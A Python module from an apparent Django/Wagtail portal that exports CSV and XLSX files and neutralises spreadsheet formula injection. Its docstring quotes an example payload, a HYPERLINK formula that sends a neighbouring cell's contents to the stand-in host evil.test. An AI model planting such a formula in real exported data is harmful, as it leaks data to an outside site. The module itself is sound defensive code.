"""The one way the portal writes spreadsheets (CSV and XLSX), so that no cell can run as a formula.

A spreadsheet program reads a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before
one) as a formula: a member's name `=HYPERLINK("http://evil.test/?"&B2)` in an attendee list would send the next
cell to another site when an editor opens it. Every text cell that starts so is written with a leading `'`
(OWASP's advice) in CSV, which spreadsheets show as text; in XLSX such a cell is stored as text, which they
never evaluate. Wagtail's own admin exports (reports, listings) go through
`SpreadsheetExportMixin`, which is made to write its cells through `safe_cell` too (`portal.apps`).
"""

import csv
from collections.abc import Iterable, Sequence
from io import BytesIO
from itertools import chain

from django.http import FileResponse, StreamingHttpResponse
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell

# The ASCII starts and their full-width forms, which some spreadsheet programs also take for formulas.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_cell(value):
    """The value as a spreadsheet shows it but cannot run: text starting like a formula gets a leading `'`."""
    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def text_cell(sheet, value) -> WriteOnlyCell:
    """An XLSX cell whose text openpyxl would take for a formula, stored as the text it is."""
    cell = WriteOnlyCell(sheet, value)
    if cell.data_type == "f":
        cell.data_type = "s"
    return cell


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


class _Echo:
    def write(self, line: str) -> str:
        return line


def csv_lines(header: Sequence, rows: Iterable[Sequence]) -> Iterable[str]:
    """The CSV text line by line, with the byte-order mark Excel needs to read UTF-8."""
    writer = csv.writer(_Echo())
    yield "\ufeff" + writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def csv_response(filename: str, header: Sequence, rows: Iterable[Sequence]) -> StreamingHttpResponse:
    """A CSV download, streamed row by row."""
    response = StreamingHttpResponse(csv_lines(header, rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def xlsx_response(filename: str, sheets: Iterable[tuple[str, Sequence, Iterable[Sequence]]]) -> FileResponse:
    """An XLSX download of (title, header, rows) sheets. A text cell is stored as text, which a spreadsheet never
    evaluates, so it keeps its exact value (no `'`)."""
    workbook = Workbook(write_only=True)
    for title, header, rows in sheets:
        sheet = workbook.create_sheet(title=title[:31])
        for row in chain([header], rows):
            sheet.append([text_cell(sheet, value) for value in row])
    output = BytesIO()
    workbook.save(output)
    output.seek(0)
    return FileResponse(output, as_attachment=True, content_type=XLSX_TYPE, filename=filename)
